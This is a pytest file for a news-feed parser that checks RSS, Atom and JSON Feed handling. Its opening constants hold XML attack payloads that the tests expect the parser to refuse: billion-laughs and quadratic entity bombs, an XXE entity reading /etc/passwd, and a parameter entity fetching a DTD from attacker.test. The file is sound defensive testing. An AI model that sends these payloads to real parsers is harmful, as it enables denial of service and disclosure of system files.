"""Feed parsing: RSS, Atom and JSON Feed; XML bombs and XXE refused fast; long feeds cut."""

from __future__ import annotations

import json
import logging
import time
import tracemalloc
from pathlib import Path

import pytest

from newsbrief.errors import InputError
from newsbrief.ingest.feeds import looks_like_feed, parse_feed
from tests.ingest.feedserver import item, page, rss

BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
                  + b"".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.replace("&lol0;", "&lol;").encode()
                             for i in range(1, 10))
                  + b']><rss version="2.0"><channel><title>&lol9;</title></channel></rss>')
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"x" * 100_000 + b'">]>'
             b'<rss version="2.0"><channel><title>t</title><description>' + b"&a;" * 50_000
             + b"</description></channel></rss>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>')
XXE_PARAMETER = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd">'
                 b'%remote;]><rss version="2.0"><channel><title>t</title></channel></rss>')
# Expat stops at the unknown encoding before reading the declarations: the text is checked instead.
MALFORMED_BOMB = BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="x-unknown"')


def _refused_fast(content: bytes) -> str:
    """Parse ``content``, expecting a refusal within 1 s and 100 MB; return its message."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InputError) as caught:
            parse_feed(content, "hostile.xml", max_items=200)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0 and peak < 100 * 1024 * 1024, (elapsed, peak)
    return str(caught.value)


@pytest.mark.parametrize("content", [BILLION_LAUGHS, QUADRATIC, MALFORMED_BOMB],
                         ids=["billion-laughs", "quadratic-blowup", "malformed-bomb"])
def test_xml_bombs_are_refused_within_a_second_and_100_mb(content: bytes) -> None:
    message = _refused_fast(content)
    assert "hostile.xml" in message and "XML bomb" in message


@pytest.mark.parametrize("content", [XXE, XXE_PARAMETER], ids=["external-entity", "external-parameter-entity"])
def test_external_entities_are_refused(content: bytes) -> None:
    message = _refused_fast(content)
    assert "external-entity (XXE)" in message


def test_rss_items_keep_the_feed_dates_in_their_own_time_zone() -> None:
    content = rss([
        item("Bridge reopens", "http://gazette.test/news/bridge", "Tue, 03 Feb 2026 21:30:00 -0500", guid="b-1"),
        item("Library &amp; Sundays", "/news/library", "Mon, 02 Feb 2026 08:00:00 GMT", text="<p>Sunday hours.</p>"),
    ])
    feed = parse_feed(content, "gazette.xml", max_items=200, url="http://gazette.test/feed.xml")
    assert feed.title == "Millbrook Gazette" and feed.total == 2
    bridge, library = feed.items
    # 21:30 in New York is already the 4th in UTC: the outlet's own day is kept.
    assert (bridge.title, bridge.link, bridge.date, bridge.id) == (
        "Bridge reopens", "http://gazette.test/news/bridge", "2026-02-03T21:30:00-05:00", "b-1")
    assert library.title == "Library & Sundays" and library.link == "http://gazette.test/news/library"
    assert library.content == "<p>Sunday hours.</p>" and library.date == "2026-02-02T08:00:00+00:00"


def test_rss_091_with_its_netscape_doctype_is_read() -> None:
    content = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
               b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
               b"<title>Old Wire</title><link>http://old.test/</link><item><title>First</title>"
               b"<link>http://old.test/1</link><description>One.</description></item></channel></rss>")
    feed = parse_feed(content, "old.rss", max_items=200)
    assert feed.title == "Old Wire" and [i.link for i in feed.items] == ["http://old.test/1"]
    assert feed.items[0].content == "One."


def test_atom_entries() -> None:
    content = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://valley.test/">
  <title>Valley Post</title><link href="http://valley.test/"/><id>urn:valley</id>
  <updated>2026-02-04T10:00:00Z</updated>
  <entry><title>Bridge open again</title><link rel="alternate" href="stories/bridge"/>
    <id>urn:valley:1</id><published>2026-02-03T18:00:00+01:00</published><updated>2026-02-04T09:00:00Z</updated>
    <summary>Traffic is back.</summary><content type="html">&lt;p&gt;Traffic is back on the bridge.&lt;/p&gt;</content>
  </entry>
</feed>"""
    feed = parse_feed(content, "valley.atom", max_items=200)
    (entry,) = feed.items
    assert feed.title == "Valley Post"
    assert (entry.link, entry.id, entry.date) == ("http://valley.test/stories/bridge", "urn:valley:1",
                                                  "2026-02-03T18:00:00+01:00")
    assert entry.content == "<p>Traffic is back on the bridge.</p>"


def test_json_feed_1_1() -> None:
    data = {"version": "https://jsonfeed.org/version/1.1", "title": "Harbour Notes",
            "home_page_url": "https://harbour.test/", "feed_url": "https://harbour.test/feed.json",
            "items": [{"id": "h1", "url": "/posts/wall", "title": "Wall vote", "date_published": "2026-02-03T09:00:00-08:00",
                       "content_text": "First paragraph.\n\nSecond <paragraph>."},
                      {"id": 2, "external_url": "https://other.test/x", "summary": "A summary.", "date_published": "soon"},
                      "not an item"]}
    feed = parse_feed(json.dumps(data).encode(), "harbour.json", max_items=200)
    first, second = feed.items
    assert feed.title == "Harbour Notes" and feed.total == 3
    assert (first.id, first.link, first.date) == ("h1", "https://harbour.test/posts/wall", "2026-02-03T09:00:00-08:00")
    assert first.content == "<p>First paragraph.</p><p>Second &lt;paragraph&gt;.</p>"
    assert (second.id, second.link, second.date, second.content) == ("2", "https://other.test/x", None, "A summary.")
    with pytest.raises(InputError, match="not a JSON Feed"):
        parse_feed(b'{"version": "1", "items": []}', "x.json", max_items=5)
    with pytest.raises(InputError, match="not a readable JSON Feed"):
        parse_feed(b"{" + b'"a":[' * 50_000, "deep.json", max_items=5)


def test_a_feed_of_10000_items_is_cut_to_the_limit_quickly(caplog: pytest.LogCaptureFixture) -> None:
    items = [item(f"Story {n}", f"http://gazette.test/{n}", "Tue, 03 Feb 2026 09:00:00 GMT") for n in range(10_000)]
    content = rss(items)
    started = time.perf_counter()
    with caplog.at_level(logging.WARNING, logger="newsbrief.ingest.feeds"):
        feed = parse_feed(content, "big.xml", max_items=200)
    elapsed = time.perf_counter() - started
    assert len(feed.items) == 200 and feed.total == 10_000
    assert feed.items[0].title == "Story 0" and feed.items[-1].title == "Story 199"
    assert "big.xml has 10000 items; read the first 200" in caplog.text
    assert elapsed < 4.0  # feedparser alone takes about 6 s on all 10,000 items here


def test_feed_sniffing() -> None:
    assert looks_like_feed(rss([]))
    assert looks_like_feed(b"\xef\xbb\xbf  <feed xmlns='http://www.w3.org/2005/Atom'/>")
    assert looks_like_feed(b"<?xml version='1.0'?><!-- c --><rdf:RDF xmlns:rdf='x'/>")
    assert looks_like_feed(b'{"version": "https://jsonfeed.org/version/1.1", "items": []}')
    assert looks_like_feed(b"anything", "application/atom+xml")
    assert not looks_like_feed(page("Bridge", ["Text."]))
    assert not looks_like_feed(rss([]), "text/html")
    assert not looks_like_feed(b'{"version": 1}')
    assert not looks_like_feed(b"<?xml version='1.0'?><urlset/>", "text/xml")


def test_feed_files_are_read_by_kind(tmp_path: Path) -> None:
    from newsbrief.ingest.read import reader_for

    feed = tmp_path / "gazette.xml"
    feed.write_bytes(rss([]))
    other = tmp_path / "notes.xml"
    other.write_bytes(b"<notes><note>hi</note></notes>")
    assert reader_for(str(feed)).kind == "feed" and reader_for(str(other)).kind == "file"


def test_malformed_feeds_without_entities_are_read_leniently() -> None:
    content = rss([item("Bridge reopens", "http://gazette.test/b", "Tue, 03 Feb 2026 09:00:00 GMT")])
    feed = parse_feed(content.replace(b"</channel>", b"</chanel>"), "broken.xml", max_items=5)
    assert [i.title for i in feed.items] == ["Bridge reopens"]
    with pytest.raises(InputError, match="not a readable feed"):
        parse_feed(b"\x00\x01 plain junk", "junk.xml", max_items=5)
